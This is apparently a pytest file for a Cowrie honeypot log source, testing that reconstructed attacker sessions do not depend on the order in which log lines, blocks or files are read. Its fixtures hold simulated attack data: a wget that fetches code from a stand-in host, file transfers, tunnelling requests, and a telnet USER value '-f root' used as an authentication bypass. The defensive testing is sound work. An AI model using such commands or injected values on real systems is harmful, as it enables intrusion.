"""The order in which a log is read does not matter: files, blocks of lines, and a clock that ran ahead."""

from __future__ import annotations

import json
import random
from itertools import pairwise, permutations
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.config import Settings
from decnet.sensors.files.tailer import Line
from decnet.sensors.sources import CowrieSource

KEY = b"k" * 32
DAY = 86_400.0
START = 1_700_000_000.0


def line(session: str, event: str, ts: float, **more: Any) -> bytes:
    about = {
        "eventid": f"cowrie.{event}",
        "timestamp": ts,
        "session": session,
        "sensor": "pot",
        "src_ip": "192.0.2.7",
    }
    return json.dumps({**about, **more}).encode()


def whole(session: str, start: float, commands: int) -> list[bytes]:
    """One session from its connection to its close."""
    return [
        line(session, "session.connect", start),
        line(session, "login.success", start + 1, username="root", password="x"),
        *(
            line(session, "command.input", start + 2 + i, input=f"echo {session} {i}")
            for i in range(commands)
        ),
        line(session, "session.closed", start + 10, duration=10.0),
    ]


def rich(session: str, start: float) -> list[bytes]:
    """One session with a fact of every list, and some that are about the one before them."""
    said = [
        ("session.connect", {"dst_port": 2222}),
        ("client.version", {"version": "SSH-2.0-Go"}),
        ("login.failed", {"username": "admin", "password": "1"}),
        ("login.failed", {"username": "root", "password": "2"}),
        ("login.success", {"username": "root", "password": "3"}),
        ("command.input", {"input": f"wget http://203.0.113.9/{session}"}),
        ("command.failed", {"input": "wget"}),
        ("session.file_download", {"url": f"http://203.0.113.9/{session}", "shasum": "ab" * 32}),
        ("command.input", {"input": "echo 'a"}),
        ("command.input", {"input": "b'"}),
        ("direct-tcpip.request", {"dst_ip": "203.0.113.50", "dst_port": 80}),
        ("direct-tcpip.data", {"dst_ip": "203.0.113.50", "dst_port": 80, "data": "GET /"}),
        ("direct-tcpip.request", {"dst_ip": "203.0.113.50", "dst_port": 80}),
        ("session.input", {"realm": "cat", "input": "text"}),
        ("telnet.exploit_attempt", {"cve": "CVE-2026-24061", "name": "USER", "value": "-f root"}),
        ("telnet.option", {"option_name": "NAWS"}),
        ("session.file_upload", {"filename": "sshd", "shasum": "cd" * 32}),
    ]
    lines = [line(session, event, start + i, **more) for i, (event, more) in enumerate(said)]
    return [*lines, line(session, "session.closed", start + len(said), duration=float(len(said)))]


def blocks_of(lines: list[bytes], cuts: set[int]) -> list[list[bytes]]:
    """The lines in pieces that begin at the cuts."""
    edges = [0, *sorted(cuts), len(lines)]
    return [lines[a:b] for a, b in pairwise(edges) if a < b]


def content(ended: dict[str, Any]) -> dict[str, Any]:
    """All of an ending but the ids of commands and what tells pieces apart."""
    plain = {k: v for k, v in ended.items() if k not in ("piece", "torn")}
    texts = [{k: v for k, v in c.items() if k != "id"} for c in ended["commands"]]
    joined = [{k: v for k, v in j.items() if k in ("command_text", "ts")} for j in ended.get("joined", [])]
    return {**plain, "commands": texts, "joined": joined}


def endings(lines: list[bytes]) -> dict[str, list[dict[str, Any]]]:
    """Every ending of every session, in order."""
    source = CowrieSource(Settings(), KEY)
    events = source.feed(Line("f", n, 0, data) for n, data in enumerate(lines, 1))
    events += source.end_all()
    found: dict[str, list[dict[str, Any]]] = {}
    for event in events:
        if event.topic == "attacker.session.ended":
            found.setdefault(event.payload["session_id"], []).append(event.payload)
    return found


def outcome(lines: list[bytes]) -> dict[str, Any]:
    """What a log comes to: the last ending of every session."""
    source = CowrieSource(Settings(), KEY)
    events = source.feed(Line("f", n, 0, data) for n, data in enumerate(lines, 1))
    events += source.end_all()
    ended = [e.payload for e in events if e.topic == "attacker.session.ended"]
    return {
        p["session_id"]: {k: p[k] for k in ("started_at", "ended_at", "commands", "auth", "end_reason")}
        for p in ended
    }


FILES = [whole(f"s{i}", START + i * 5 * DAY, i + 1) for i in range(4)]


@pytest.mark.parametrize("order", list(permutations(range(4))), ids=str)
def test_any_order_of_files(order: tuple[int, ...]) -> None:
    right = outcome([data for file in FILES for data in file])
    assert len(right) == 4
    assert [len(s["commands"]) for s in right.values()] == [1, 2, 3, 4]
    assert outcome([data for i in order for data in FILES[i]]) == right


@given(st.permutations(range(4)), st.integers(0, 3), st.integers(2, 6))
def test_a_block_from_elsewhere_in_the_middle_of_a_session_tears_nothing(
    order: list[int], cut: int, place: int
) -> None:
    """One file is read between two lines of another, as by ``cat`` of what was being written."""
    first, *rest = (FILES[i] for i in order)
    place = min(place, len(first) - 1)
    inner = [data for file in rest[:cut] for data in file]
    mixed = [*first[:place], *inner, *first[place:], *(data for file in rest[cut:] for data in file)]
    assert {k: v["commands"] for k, v in outcome(mixed).items()} == {
        k: v["commands"] for k, v in outcome([d for f in FILES for d in f]).items()
    }


def test_a_clock_that_once_ran_ahead_tears_no_session() -> None:
    long = whole("s1", START, 5)
    mad = line("s2", "session.connect", START + 400 * DAY)
    assert outcome([*long[:4], mad, *long[4:]])[next(iter(outcome(long)))] == next(
        iter(outcome(long).values())
    )


def test_an_id_that_comes_again_is_another_session_and_the_same_one_when_read_again() -> None:
    first, second = whole("TT8", START, 1), whole("TT8", START + 7200, 2)
    once = outcome([*first, *second])
    assert [len(s["commands"]) for s in once.values()] == [1, 2]
    assert outcome([*first, *second, *first, *second]).keys() == once.keys()
    alone = outcome(first)
    assert alone.keys() < once.keys(), "the first keeps the plain id"


@pytest.mark.parametrize("order", [(3, 2, 1, 0), (1, 3, 0, 2)], ids=str)
def test_the_past_is_read_as_the_past_and_ends_no_session_between_its_lines(order: tuple[int, ...]) -> None:
    source = CowrieSource(Settings(), KEY)
    lines = [data for i in order for data in FILES[i]]
    events = source.feed(Line("f", n, 0, data) for n, data in enumerate(lines, 1))
    ended = [e.payload["session_id"] for e in events if e.topic == "attacker.session.ended"]
    assert len(ended) == len(set(ended)) == 4, "each once, by its own close line"


LOG = [data for i in range(3) for data in rich(f"r{i}", START + i * DAY)]
RIGHT = endings(LOG)


@given(st.sets(st.integers(1, len(LOG) - 1), max_size=6), st.randoms(use_true_random=False))
def test_any_order_of_blocks_of_lines_gives_the_same_sessions(cuts: set[int], dice: random.Random) -> None:
    blocks = blocks_of(LOG, cuts)
    dice.shuffle(blocks)
    found = endings([data for block in blocks for data in block])
    assert found.keys() == RIGHT.keys()
    for ident, ends in found.items():
        (right,) = RIGHT[ident]
        assert content(ends[-1]) == content(right)
        if len(ends) == 1:
            assert [c["id"] for c in ends[0]["commands"]] == [c["id"] for c in right["commands"]]
            assert ends[0].get("joined") == right.get("joined")


@given(st.permutations(range(len(LOG) // 3)))
def test_any_order_of_the_lines_of_a_session_gives_the_same_session(order: list[int]) -> None:
    lines = rich("r0", START)
    ((ident, ends),) = endings([lines[i] for i in order]).items()
    assert content(ends[-1]) == content(RIGHT[ident][-1])


@given(st.lists(st.integers(0, 2), min_size=1, max_size=4))
def test_lines_that_come_twice_add_nothing(again: list[int]) -> None:
    repeated = [data for i in again for data in rich(f"r{i}", START + i * DAY)]
    assert {k: [content(e) for e in v] for k, v in endings([*LOG, *repeated]).items()} == {
        k: [content(e) for e in v] for k, v in RIGHT.items()
    }


def test_a_line_after_the_end_is_named_by_itself_and_others_keep_their_names() -> None:
    lines = rich("r0", START)
    late = line("r0", "command.input", START + 5.5, input="id")
    first, last = endings([*lines, late])[next(iter(RIGHT))]
    ids = {c["command_text"]: c["id"] for c in last["commands"]}
    assert {c["command_text"]: c["id"] for c in first["commands"]} == {
        k: v for k, v in ids.items() if k != "id"
    }
    assert ids["id"].rpartition("#cmd")[2].startswith("@")
    other = endings([*lines[:4], *lines[-1:], late])[next(iter(RIGHT))][-1]
    assert ids["id"] in [c["id"] for c in other["commands"]], "whatever else was known"
